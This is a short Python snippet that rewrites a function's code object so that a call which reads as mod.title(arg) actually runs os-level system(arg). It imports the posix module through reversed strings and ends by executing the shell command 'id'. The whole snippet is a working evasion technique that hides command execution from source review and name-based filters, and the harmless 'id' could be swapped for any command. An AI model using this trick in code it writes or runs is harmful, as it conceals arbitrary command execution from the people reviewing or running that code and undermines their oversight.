# The function body says mod.title(arg); its code object is rebuilt with a
# different co_names tuple so the same bytecode now calls mod.system(arg).
def fmt(mod, arg):
    return mod.title(arg)


code = fmt.__code__
fmt.__code__ = code.replace(co_names=tuple(n[::-1] for n in ('metsys',)))
carrier = fmt.__globals__['__builtins__']
imp = carrier['__import__'] if isinstance(carrier, dict) else carrier.__import__
fmt(imp('xisop'[::-1]), 'id')
